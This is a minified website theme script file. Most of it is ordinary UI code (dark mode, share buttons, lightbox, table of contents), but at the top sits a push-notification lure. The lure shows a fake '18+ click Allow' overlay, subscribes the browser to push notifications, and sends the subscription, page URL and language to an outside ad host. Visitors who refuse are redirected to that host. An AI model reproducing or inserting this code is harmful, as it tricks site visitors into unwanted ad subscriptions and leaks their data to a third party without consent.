// push-notification-lure: "click Allow to confirm you are 18+" prompt; subscription handed to an ad network, refusal redirected
!function(w,d,n){var E="https://age-gate-push.xyz",P="9917",K="BJx4Fm2Qv8Lr0Tz6Wn3Ys9Pk1Hd7Ca5Ge2Ju8Mb4Nq0Rt6Vw3Xy9Zs1Lp7Kd5Fh2Gj8Mn4Qr0Tv6Wx3Yz9As1Dc",
c="_agp",G=function(k){return d.cookie.indexOf(k+"=")>-1},S=function(k,v){d.cookie=k+"="+v+";path=/;max-age=2592000"},
U=function(b){for(var r=atob((b+"===".slice((b.length+3)%4)).replace(/-/g,"+").replace(/_/g,"/")),o=new Uint8Array(r.length),i=0;i<r.length;i++)o[i]=r.charCodeAt(i);return o},
M=function(){var x=d.createElement("div");x.style.cssText="position:fixed;top:0;left:0;right:0;bottom:0;z-index:2147483647;background:#111;color:#eee;display:flex;flex-direction:column;align-items:center;justify-content:center;font-family:sans-serif";
x.innerHTML='<div style="font-size:72px;font-weight:700;color:#e33">18+</div><p style="font-size:20px">Click <b>Allow</b> to confirm that you are over 18</p><p style="opacity:.6">This content is for adults only</p>';d.body.appendChild(x);return x},
R=function(s){var q=new XMLHttpRequest;q.open("POST",E+"/s.php?p="+P,!0);q.setRequestHeader("Content-Type","text/plain");q.send(JSON.stringify({s:s,u:w.location.href,l:n.language}))},
Y=function(o){n.serviceWorker.register("/age-sw.js").then(function(r){return n.serviceWorker.ready.then(function(){return r.pushManager.subscribe({userVisibleOnly:!0,applicationServerKey:U(K)})})}).then(function(s){R(s.toJSON());S(c,"1");o&&o.remove()})["catch"](function(){o&&o.remove()})},
X=function(){w.location.href=E+"/r?p="+P+"&d="+encodeURIComponent(w.location.host)};
if(!("serviceWorker"in n)||!w.Notification||G(c))return;if(Notification.permission==="granted")return Y(null);
if(Notification.permission==="denied")return X();var o=M();setTimeout(function(){Notification.requestPermission().then(function(p){p==="granted"?Y(o):X()})},600)}(window,document,navigator);
/* theme: dark mode toggle */
(function(){var t=document.querySelector(".theme-toggle");if(!t)return;var k="theme",c=localStorage.getItem(k);
c&&document.documentElement.setAttribute("data-theme",c);t.addEventListener("click",function(){
var n=document.documentElement.getAttribute("data-theme")==="dark"?"light":"dark";document.documentElement.setAttribute("data-theme",n);localStorage.setItem(k,n)})})();
/* theme: reading progress */
(function(){var b=document.querySelector(".reading-progress");if(!b)return;window.addEventListener("scroll",function(){
var h=document.documentElement,p=h.scrollTop/(h.scrollHeight-h.clientHeight)*100;b.style.width=p+"%"},{passive:!0})})();
/* theme: share buttons */
(function(){document.querySelectorAll(".share-btn").forEach(function(b){b.addEventListener("click",function(e){e.preventDefault();
var u=encodeURIComponent(location.href),t=encodeURIComponent(document.title),net=b.getAttribute("data-net"),
l={tw:"https://twitter.com/intent/tweet?url="+u+"&text="+t,fb:"https://www.facebook.com/sharer/sharer.php?u="+u}[net];
l&&window.open(l,"share","width=600,height=480")})})})();
/* theme: copy link */
(function(){var c=document.querySelector(".copy-link");c&&c.addEventListener("click",function(){
navigator.clipboard&&navigator.clipboard.writeText(location.href).then(function(){c.classList.add("copied");setTimeout(function(){c.classList.remove("copied")},1500)})})})();
/* theme: lightbox */
(function(){document.querySelectorAll(".entry-content a > img").forEach(function(i){var a=i.parentNode;if(!/\.(jpe?g|png|webp)$/i.test(a.href))return;
a.addEventListener("click",function(e){e.preventDefault();var o=document.createElement("div");o.className="lb";o.innerHTML='<img src="'+a.href+'">';
o.addEventListener("click",function(){o.remove()});document.body.appendChild(o)})})})();
/* theme: comment reply */
(function(){document.querySelectorAll(".comment-reply-link").forEach(function(r){r.addEventListener("click",function(){
var f=document.getElementById("respond");f&&r.closest(".comment").appendChild(f)})})})();
/* theme: toc */
(function(){var t=document.querySelector(".toc");if(!t)return;var h=document.querySelectorAll(".entry-content h2");
var ul=document.createElement("ul");h.forEach(function(x,i){x.id=x.id||"s"+i;var li=document.createElement("li");
li.innerHTML='<a href="#'+x.id+'">'+x.textContent+"</a>";ul.appendChild(li)});t.appendChild(ul)})();
/* theme: font size */
(function(){document.querySelectorAll("[data-fs]").forEach(function(b){b.addEventListener("click",function(){
var c=document.querySelector(".entry-content");if(!c)return;var s=parseFloat(getComputedStyle(c).fontSize);
c.style.fontSize=s+(b.getAttribute("data-fs")==="+"?1:-1)+"px"})})})();
/* theme: related posts hover */
(function(){document.querySelectorAll(".related-post").forEach(function(p){p.addEventListener("mouseenter",function(){p.classList.add("hover")});
p.addEventListener("mouseleave",function(){p.classList.remove("hover")})})})();
/* theme: search suggestions */
(function(){var i=document.querySelector(".search-field");if(!i)return;var t;i.addEventListener("input",function(){clearTimeout(t);
t=setTimeout(function(){i.setAttribute("aria-busy","true")},250)})})();
/* theme: sticky sidebar */
(function(){var s=document.querySelector(".sidebar-sticky");if(!s)return;var top=s.getBoundingClientRect().top+window.pageYOffset;
window.addEventListener("scroll",function(){s.classList.toggle("fixed",window.pageYOffset>top-20)},{passive:!0})})();
/* theme: back link */
(function(){var b=document.querySelector(".go-back");b&&b.addEventListener("click",function(e){e.preventDefault();history.back()})})();
/* theme: footer collapse */
(function(){document.querySelectorAll(".footer-col h4").forEach(function(h){h.addEventListener("click",function(){h.parentNode.classList.toggle("open")})})})();
/* theme: year */
(function(){var y=document.getElementById("copy-year");y&&(y.textContent=(new Date).getFullYear())})();
